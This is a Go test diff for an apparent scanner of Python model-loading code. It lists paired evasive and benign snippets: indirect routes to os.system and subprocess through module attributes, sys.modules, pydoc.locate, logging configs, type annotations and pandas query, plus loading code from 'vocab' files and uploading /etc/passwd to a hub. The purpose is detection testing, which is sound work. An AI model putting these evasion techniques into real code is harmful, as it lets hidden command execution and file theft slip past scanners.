@@ -68,3 +68,49 @@ func TestEntries(t *testing.T) {
 		t.Errorf("from_pretrained: %s", got)
 	}
 }
+
+// What is reached by another way than its own name is the same thing.
+func TestLookups(t *testing.T) {
+	checkEvasions(t, []evasion{
+		{"module in a module", "import torch\ntorch.hub.os.system(M)", "import torch\ntorch.hub.os.path.join('a', 'b')"},
+		{"deep", "import posixpath\nposixpath.genericpath.os.system(M)", ""},
+		{"of a library", "import torch.utils.cpp_extension as c\nc.subprocess.run([M])", "import torch.utils.cpp_extension as c\nc.include_paths()"},
+		{"from", "from torch.hub import os as x\nx.system(M)", "from torch.hub import os as x\nx.getpid()"},
+		{"sys inside", "import transformers\ntransformers.sys.modules['os'].system(M)", "import transformers\ntransformers.sys.modules[__name__]"},
+		{"modules.get", "import sys\nsys.modules.get('os').system(M)", "import sys\nsys.modules.get('torch').manual_seed(1)"},
+		{"all unknown", "import json, importlib\nc = json.load(open('c'))\ngetattr(importlib.import_module(c['a']), c['b'])(c['c'])", "import importlib\nc = 'f'\ngetattr(importlib.import_module('torch.nn'), c)(1)"},
+		{"unknown in a model", "import importlib, torch\nclass A(torch.nn.Module):\n  def __init__(self, c):\n    getattr(importlib.import_module(c.a), c.b)(c.c)", "import importlib, torch\nclass A(torch.nn.Module):\n  def __init__(self, c):\n    self.a = getattr(torch.nn, c.b)(c.c)"},
+		{"locate", "import pydoc\npydoc.locate('os.system')(M)", "import pydoc\npydoc.locate('torch.nn.Linear')(1, 2)"},
+		{"resolve_name", "import pkgutil\npkgutil.resolve_name('os:system')(M)", "import pkgutil\npkgutil.resolve_name('torch:nn')"},
+		{"hydra", "from hydra.utils import get_method\nget_method('os.system')(M)", "from hydra.utils import get_method\nget_method('torch.ones')(2)"},
+		{"methodcaller", "import os, operator\noperator.methodcaller('system', 'x')(os)", "import operator\noperator.methodcaller('lower')('X')"},
+		{"attrgetter", "import operator, shutil\noperator.attrgetter('os.system')(shutil)(M)", "import operator\nsorted([], key=operator.attrgetter('size'))"},
+		{"reduce", "import os, functools\nfunctools.reduce(getattr, ['system'], os)(M)", "import torch, functools\nfunctools.reduce(getattr, ['nn', 'Linear'], torch)(1, 2)"},
+		{"object", "import os\nobject.__getattribute__(os, 'system')(M)", "class A:\n  def __getattr__(self, n): return object.__getattribute__(self, n)\nA().x"},
+		{"next", "import os\ndef g():\n  yield os\nnext(g()).system(M)", "def g():\n  yield 1\nnext(g())"},
+		{"next of popen", "import subprocess\ndef g():\n  yield subprocess\nnext(g()).run(['x'])", ""},
+		{"zip", "import os\nfor a, b in zip([os], ['x']):\n  a.execv(b, [])", "for a, b in zip([1], ['x']): print(a, b)"},
+		{"namespace", "import os, types\nn = types.SimpleNamespace(o=os)\nn.o.system(M)", "import os, types\nn = types.SimpleNamespace(o=os)\nn.o.getpid()"},
+		{"copy", "import subprocess, copy\ncopy.copy(subprocess).run(['x'])", "import copy\ncopy.copy(copy).copy(1)"},
+		{"many", "import os, math\nf = math.sin if 0 else math.cos if 0 else math.tan if 0 else math.exp if 0 else os.system\nf(M)", "import math\nf = math.sin if 0 else math.cos if 0 else math.tan if 0 else math.exp if 0 else math.log\nf(1)"},
+		{"long list", "import os\nf = [" + strings.Repeat("print, ", 40) + "os.system][i]\nf(M)", "f = [" + strings.Repeat("print, ", 40) + "print][i]\nf('x')"},
+		{"many texts", "import os\nn = 'a'\n" + strings.Repeat("if x: n = 'b'\n", 1) + "if x: n = 'c'\nif x: n = 'd'\nif x: n = 'e'\nif x: n = 'system'\ngetattr(os, n)(M)", ""},
+	})
+}
+
+// Functions of libraries that run what they are given.
+func TestSinks(t *testing.T) {
+	checkEvasions(t, []evasion{
+		{"pythonapi", "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')", "import ctypes\nctypes.sizeof(ctypes.c_int)"},
+		{"annotation", "import typing\ndef f(a: \"__import__('os').system('x')\"): pass\ntyping.get_type_hints(f)", "import typing\ndef f(a: \"typing.Callable[[int], Tuple(int)]\") -> 'A': pass\ntyping.get_type_hints(f)"},
+		{"forward reference", "import typing\ntyping.ForwardRef(\"__import__('os').system('x')\")", "import typing\ntyping.ForwardRef('int')"},
+		{"logging", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'x'}}})", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'logging.StreamHandler', 'level': 'INFO'}}})"},
+		{"logging file", "import logging.config\nlogging.config.fileConfig('vocab.ini')", ""},
+		{"query", "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.io.common.os.system('x') == 0\")", "import pandas as pd\nb = 1\npd.DataFrame({'a': [1]}).query('a == @b and a in @c(1)')"},
+		{"doctest", "import doctest\ndef f(): pass\ndoctest.run_docstring_examples(f, {})", "import doctest\nif __name__ == '__main__': doctest.testmod()"},
+		{"spawnv", "from multiprocessing import util\nutil.spawnv_passfds(b'/bin/echo', [b'echo'], [])", "import multiprocessing as mp\nmp.set_start_method('spawn')"},
+		{"loader", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'vocab.txt').load_module()", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'version.py').load_module()"},
+		{"specification", "import importlib.util as u, os\ns = u.spec_from_file_location('x', os.path.join(os.path.dirname(__file__), 'vocab.bin'))", "import importlib.util as u, os\ns = u.spec_from_file_location('x', os.path.join(os.path.dirname(__file__), 'x.py'))"},
+		{"upload", "from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj='/etc/passwd', path_in_repo='x', repo_id='e/x')", "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c')"},
+	})
+}
